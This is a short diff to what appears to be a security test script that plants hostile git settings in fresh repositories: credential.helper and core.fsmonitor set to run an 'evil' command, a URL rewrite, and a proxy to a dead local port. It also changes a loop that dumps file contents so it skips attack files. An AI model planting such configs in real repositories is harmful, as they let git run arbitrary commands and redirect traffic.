@@ -280,7 +280,7 @@ TAKEOVER = {
                 for name in files:
                     path = os.path.join(folder, name)
                     try:
-                        if os.path.isfile(path) and os.path.getsize(path) < 1_000_000:
+                        if "attacks" not in path and os.path.isfile(path) and os.path.getsize(path) < 1_000_000:
                             print(path, open(path, "rb").read().decode("utf-8", "replace"))
                     except OSError:
                         pass
@@ -446,6 +446,11 @@ for home in ("/root", "/home", "/tmp", "/workspace", "/root/.config/git", "/var/
     for name in (".gitconfig", "config"):
         write(f"{home}/{name}", at_home, 0o644)
 write("/workspace/repo/file.txt", "two, longer\n", 0o644)
+# One setting each, so that no other stands in its way.
+for name, key, value in (("helped", "credential.helper", "!" + evil), ("moved", "url.http://127.0.0.1:9/.insteadOf", "http://"),
+                         ("proxied", "http.proxy", "http://127.0.0.1:9"), ("watched", "core.fsmonitor", evil)):
+    run("init", "-q", "/workspace/" + name)
+    run("config", "--file", f"/workspace/{name}/.git/config", key, value)
 """
 
 
